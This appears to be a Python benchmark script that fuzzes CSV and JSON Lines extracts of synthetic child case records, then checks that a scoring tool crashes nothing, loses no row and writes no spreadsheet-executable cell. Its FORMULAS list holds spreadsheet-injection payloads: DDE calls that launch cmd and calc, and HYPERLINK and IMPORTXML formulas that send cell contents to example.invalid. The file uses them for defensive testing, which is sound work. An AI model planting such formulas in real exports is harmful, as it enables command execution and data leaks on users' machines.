"""A hostile extract: valid generated case files mixed with rows an attacker or a broken export
would send, and a check that scoring it crashes nothing, loses no row and writes no cell that
a spreadsheet would run.

The hostile rows are copies of valid rows (so they belong to real children and plans) with one
to three cells damaged: random Unicode (many scripts, emoji, combining and zero-width marks),
control characters, right-to-left overrides, 1 MB cells, values of the wrong type (JSON Lines
tables get numbers, lists, objects and booleans; CSV tables get words in date, yes/no and
number columns), dates in twelve formats, ids that repeat (within a table, and ids of one table
reused in another), missing required values, and formula strings (``=HYPERLINK(...)``,
``+cmd|...``, ``@SUM(...)``, a leading tab or carriage return) in ids, names, codes and texts.

    python -m bench.hostile --rows 10000 --out /tmp/hostile --workers 2

generates the extract, scores it with ``notereview score --format csv --models none``, and
prints (and writes to OUT/hostile.json) rows read, scored and quarantined per table, what was
planted, and every output cell a spreadsheet would evaluate (none, or it exits 1).
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import random
import re
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

#: Each table's id column (genograms: none), its file format in the hostile extract.
ID_COLUMNS: dict[str, str | None] = {
    "children": "child_id", "visits": "visit_id", "case_summaries": "summary_id",
    "plans": "plan_id", "plan_actions": "action_id", "chronology": "entry_id",
    "genograms": None, "supervision": "record_id",
}  # fmt: skip
JSONL_TABLES = frozenset({"case_summaries", "chronology"})
DATE_COLUMNS: dict[str, tuple[str, ...]] = {
    "children": ("date_of_birth", "status_start", "placement_start"),
    "visits": ("visit_date", "recorded_at"),
    "case_summaries": ("updated_at",),
    "plans": ("start_date", "last_review_date", "next_review_date"),
    "plan_actions": ("due_date",),
    "chronology": ("event_date", "entered_at"),
    "genograms": ("updated_at",),
    "supervision": ("date",),
}
TEXT_COLUMNS: dict[str, tuple[str, ...]] = {
    "children": ("first_name", "team", "ethnicity"),
    "visits": ("text",),
    "case_summaries": ("text",),
    "plans": ("plan_type",),
    "plan_actions": ("text", "owner"),
    "chronology": ("text", "impact", "event_type", "source"),
    "genograms": ("notes",),
    "supervision": ("text",),
}
TYPED_COLUMNS: dict[str, tuple[str, ...]] = {  # yes/no, whole numbers, codes
    "children": ("age_years", "long_term_placement", "legal_status", "gender", "disability"),
    "visits": ("seen", "seen_alone", "visit_type"),
    "plans": ("plan_type",),
    "plan_actions": ("status",),
    "genograms": ("members",),
}

FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click here")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://example.invalid/?", A1), "//a")',
    '=DDE("cmd";"/C calc";"A0")',
)
CONTROL = "".join(chr(c) for c in (*range(0, 9), 11, 12, *range(14, 32), 127, 0x85))
BIDI = ("\u202e", "\u202d", "\u200f", "\u200e", "\u2066", "\u2067", "\u2069", "\u061c")
_SCRIPTS = (
    (0x0400, 0x04FF), (0x0590, 0x05FF), (0x0600, 0x06FF), (0x0900, 0x097F), (0x3040, 0x30FF),
    (0x4E00, 0x4FFF), (0xAC00, 0xAD00), (0x1F300, 0x1F64F), (0x0300, 0x036F), (0x2000, 0x206F),
    (0xFE00, 0xFE0F), (0x1D400, 0x1D4FF), (0xE000, 0xE0FF),
)  # fmt: skip


def _random_unicode(rng: random.Random, n: int) -> str:
    out = []
    for _ in range(n):
        low, high = rng.choice(_SCRIPTS)
        out.append(chr(rng.randint(low, high)))
    return "".join(out)


def date_formats(day: str) -> list[str]:
    """An ISO date written twelve ways (ISO, with a time, UK, US, words, compact, dotted, an
    Excel serial number...): only the first two are ISO 8601."""
    y, m, d = (int(x) for x in day[:10].split("-"))
    months = ("January", "February", "March", "April", "May", "June", "July", "August",
              "September", "October", "November", "December")  # fmt: skip
    serial = (y - 1900) * 365 + (y - 1901) // 4 + sum((31, 28, 31, 30, 31, 30, 31, 31, 30, 31,
              30, 31)[: m - 1]) + d + 1  # fmt: skip
    return [
        f"{y:04d}-{m:02d}-{d:02d}",
        f"{y:04d}-{m:02d}-{d:02d}T09:30:00+01:00",
        f"{d:02d}/{m:02d}/{y:04d}",
        f"{m:02d}/{d:02d}/{y:04d}",
        f"{d} {months[m - 1]} {y}",
        f"{months[m - 1]} {d}, {y}",
        f"{y:04d}{m:02d}{d:02d}",
        f"{y:04d}/{m:02d}/{d:02d}",
        f"{d:02d}.{m:02d}.{y % 100:02d}",
        str(serial),
        f"{d:02d}-{months[m - 1][:3]}-{y:04d}",
        f"{y:04d}-{m:02d}-{d:02d} 00:00:00.000",
    ]


_WRONG_JSON: tuple[Any, ...] = (12345, -3.5, True, False, [1, "two"], {"a": {"b": [None]}}, 0)
_WRONG_WORDS = ("maybe", "twelve", "yesterday", "N/A", "-", "0x1F", "1e309", "[]", "{}", "∞")


class _Planter:
    """Damages copied rows, counting what it planted."""

    def __init__(self, rng: random.Random, ids_by_table: dict[str, list[str]], huge: int) -> None:
        self.rng = rng
        self.ids_by_table = ids_by_table
        self.huge_left = huge
        self.planted: Counter[str] = Counter()

    def damage(self, table: str, row: dict[str, Any]) -> None:
        kinds: list[Callable[[str, dict[str, Any]], str]] = [
            self.unicode, self.control, self.bidi, self.wrong_type, self.date_format,
            self.formula, self.formula, self.cross_id, self.missing,
        ]  # fmt: skip
        if self.huge_left > 0 and self.rng.random() < 0.02:
            kinds = [self.huge]
        for planter in self.rng.sample(kinds, k=min(len(kinds), self.rng.randint(1, 3))):
            self.planted[planter(table, row)] += 1

    def _column(self, table: str, row: dict[str, Any], pool: tuple[str, ...] = ()) -> str:
        columns = [c for c in (pool or tuple(row)) if c in row] or list(row)
        return self.rng.choice(columns)

    def unicode(self, table: str, row: dict[str, Any]) -> str:
        column = self._column(table, row)
        row[column] = _random_unicode(self.rng, self.rng.randint(1, 200))
        return "random_unicode"

    def control(self, table: str, row: dict[str, Any]) -> str:
        column = self._column(table, row)
        value = str(row.get(column) or "")
        at = self.rng.randint(0, len(value))
        bad = "".join(self.rng.choice(CONTROL) for _ in range(self.rng.randint(1, 5)))
        row[column] = value[:at] + bad + value[at:]
        return "control_characters"

    def bidi(self, table: str, row: dict[str, Any]) -> str:
        column = self._column(table, row)
        row[column] = self.rng.choice(BIDI) + str(row.get(column) or "") + "\u202c"
        return "right_to_left_marks"

    def huge(self, table: str, row: dict[str, Any]) -> str:
        column = self._column(table, row, TEXT_COLUMNS.get(table, ()))
        unit = "Words without end, " + _random_unicode(self.rng, 20) + ". "
        row[column] = (unit * (1_000_000 // len(unit.encode()) + 1))[:1_000_000]
        self.huge_left -= 1
        return "one_megabyte_cell"

    def wrong_type(self, table: str, row: dict[str, Any]) -> str:
        column = self._column(table, row, TYPED_COLUMNS.get(table, ()) + DATE_COLUMNS[table])
        if table in JSONL_TABLES:
            row[column] = self.rng.choice(_WRONG_JSON)
        else:
            row[column] = self.rng.choice(_WRONG_WORDS)
        return "wrong_type"

    def date_format(self, table: str, row: dict[str, Any]) -> str:
        column = self._column(table, row, DATE_COLUMNS[table])
        value = row.get(column)
        if not isinstance(value, str) or not re.match(r"\d{4}-\d\d-\d\d", value):
            value = "2026-03-04"
        row[column] = self.rng.choice(date_formats(value))
        return "date_format"

    def formula(self, table: str, row: dict[str, Any]) -> str:
        column = self._column(table, row)
        formula = self.rng.choice(FORMULAS)
        row[column] = formula if self.rng.random() < 0.7 else formula + " " + str(row[column])
        return "formula"

    def cross_id(self, table: str, row: dict[str, Any]) -> str:
        id_column = ID_COLUMNS[table]
        others = [t for t in self.ids_by_table if t != table and self.ids_by_table[t]]
        if id_column is None or not others:
            return self.formula(table, row)
        row[id_column] = self.rng.choice(self.ids_by_table[self.rng.choice(others)])
        return "id_from_another_table"

    def missing(self, table: str, row: dict[str, Any]) -> str:
        column = self._column(table, row)
        row[column] = self.rng.choice(("", "   ", "NULL", None))
        return "missing_value"


def _read_csv(path: Path) -> list[dict[str, Any]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _write(folder: Path, table: str, rows: list[dict[str, Any]], columns: list[str]) -> None:
    if table in JSONL_TABLES:
        with (folder / f"{table}.jsonl").open("w", encoding="utf-8") as fh:
            for row in rows:
                fh.write(json.dumps(row, ensure_ascii=False) + "\n")
        return
    buf = io.StringIO(newline="")
    writer = csv.DictWriter(buf, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    (folder / f"{table}.csv").write_text(buf.getvalue(), encoding="utf-8", newline="")


def make_hostile_extract(
    folder: str | Path, rows: int = 10_000, seed: int = 19, huge_cells: int | None = None
) -> dict[str, Any]:
    """Write a hostile extract of exactly ``rows`` rows into ``folder``: about half of them
    generated valid case files (``notereview synth``), the rest damaged copies of them. Returns
    what was written: rows per table, valid and hostile rows, and what was planted."""
    from notereview.synth import generate

    folder = Path(folder)
    rng = random.Random(seed)
    children = max(3, rows // 2 // 46)  # a generated child has about 46 rows
    generate(folder, children, seed)
    (folder / "answer_key.json").unlink(missing_ok=True)
    tables: dict[str, list[dict[str, Any]]] = {}
    columns: dict[str, list[str]] = {}
    for table in ID_COLUMNS:
        path = folder / f"{table}.csv"
        tables[table] = _read_csv(path)
        with path.open(encoding="utf-8", newline="") as fh:
            columns[table] = next(csv.reader(fh))
        path.unlink()
    valid = sum(len(t) for t in tables.values())
    if valid >= rows:
        raise ValueError(
            f"{rows} rows is too few for a hostile extract (the valid part is {valid})"
        )
    ids = {t: [r[c] for r in tables[t]] for t, c in ID_COLUMNS.items() if c is not None}
    huge = huge_cells if huge_cells is not None else max(1, rows // 2000)
    planter = _Planter(rng, ids, huge)
    weights = [len(tables[t]) for t in ID_COLUMNS]
    hostile: dict[str, list[dict[str, Any]]] = {t: [] for t in ID_COLUMNS}
    serial = 0
    for _ in range(rows - valid):
        table = rng.choices(list(ID_COLUMNS), weights=weights)[0]
        row = dict(rng.choice(tables[table]))
        id_column = ID_COLUMNS[table]
        if id_column is not None and rng.random() < 0.9:  # else: a duplicate id
            serial += 1
            row[id_column] = f"H{serial:06d}"
        elif id_column is not None:
            planter.planted["duplicate_id"] += 1
        planter.damage(table, row)
        hostile[table].append(row)
    if planter.huge_left > 0:  # the cells a run of this size must hold
        for _ in range(planter.huge_left):
            table = rng.choice(["visits", "case_summaries", "supervision"])
            row = rng.choice(hostile[table] or tables[table])
            planter.planted[planter.huge(table, row)] += 1
    per_table: dict[str, int] = {}
    for table in ID_COLUMNS:
        mixed = tables[table] + hostile[table]
        rng.shuffle(mixed)
        _write(folder, table, mixed, columns[table])
        per_table[table] = len(mixed)
    assert sum(per_table.values()) == rows
    return {
        "rows": rows,
        "valid_rows": valid,
        "hostile_rows": rows - valid,
        "rows_per_table": per_table,
        "planted": dict(sorted(planter.planted.items())),
        "seed": seed,
    }


# ------------------------------------------------------------------ what a spreadsheet runs

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?\Z")


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet would run ``cell`` as a formula: it begins with = + - @ a tab or
    a carriage return and is not simply a number."""
    return cell.startswith(FORMULA_STARTS) and _NUMBER.match(cell) is None


def formula_cells(folder: str | Path) -> tuple[int, list[tuple[str, int, int, str]]]:
    """Every CSV and xlsx file under ``folder`` opened as a spreadsheet would open it: the
    number of files read, and each cell it would evaluate (file, row, column, first 40
    characters)."""
    found: list[tuple[str, int, int, str]] = []
    files = 0
    csv.field_size_limit(1 << 30)
    for path in sorted(Path(folder).rglob("*")):
        suffix = path.suffix.lower()
        if suffix == ".csv":
            files += 1
            with path.open(encoding="utf-8", newline="") as fh:
                for r, record in enumerate(csv.reader(fh)):
                    found += [(path.name, r, c, v[:40]) for c, v in enumerate(record)
                              if evaluated(v)]  # fmt: skip
        elif suffix in (".xlsx", ".xlsm", ".xls", ".ods"):
            from python_calamine import CalamineWorkbook

            files += 1
            book = CalamineWorkbook.from_path(str(path))
            for name in book.sheet_names:
                for r, values in enumerate(book.get_sheet_by_name(name).to_python()):
                    found += [(f"{path.name}#{name}", r, c, v[:40]) for c, v in enumerate(values)
                              if isinstance(v, str) and evaluated(v)]  # fmt: skip
    return files, found


# ------------------------------------------------------------------ the whole check


def score_hostile(extract: Path, out: Path, workers: int, timeout: float) -> dict[str, Any]:
    """Score ``extract`` as the nightly job does (CSV outputs); what it wrote, with the check's
    findings: exit status, per-table accounting, and the cells a spreadsheet would run."""
    started = time.perf_counter()
    done = subprocess.run(
        [sys.executable, "-c", "from notereview.cli import main; main()", "score", str(extract),
         "--out", str(out), "--format", "csv", "--models", "none", "--workers", str(workers),
         "--as-of", "2026-11-02"],
        capture_output=True, text=True, timeout=timeout,
    )  # fmt: skip
    result: dict[str, Any] = {
        "exit_code": done.returncode,
        "wall_s": round(time.perf_counter() - started, 1),
        "stderr_tail": done.stderr[-2000:],
    }
    if done.returncode != 0:
        return result
    info = json.loads((out / "run.json").read_text(encoding="utf-8"))
    result["tables"] = info["tables"]
    result["rows_read"] = info["rows_read"]
    result["rows_scored"] = info["rows_scored"]
    result["rows_quarantined"] = info["rows_quarantined"]
    result["children_scored"] = info.get("children_scored")
    result["data_quality"] = {
        t: {k: v for k, v in (n.get("data_quality") or {}).items() if k != "records"}
        for t, n in (info.get("ingest_notes") or {}).items()
        if isinstance(n, dict)
    }
    files, cells = formula_cells(out)
    result["output_files_opened"] = files
    result["formula_cells"] = cells[:20]
    result["formula_cells_found"] = len(cells)
    return result


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--rows", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=19)
    parser.add_argument("--out", type=Path, required=True)
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--timeout", type=float, default=3600)
    args = parser.parse_args(argv)
    extract, out = args.out / "extract", args.out / "scored"
    planted = make_hostile_extract(extract, args.rows, args.seed)
    checked = score_hostile(extract, out, args.workers, args.timeout)
    report = {"extract": planted, "score": checked}
    (args.out / "hostile.json").write_text(json.dumps(report, indent=1), encoding="utf-8")
    print(json.dumps(report, indent=1))
    ok = (
        checked["exit_code"] == 0
        and checked["rows_read"] == planted["rows"]
        and checked["rows_read"] == checked["rows_scored"] + checked["rows_quarantined"]
        and checked["formula_cells_found"] == 0
    )
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
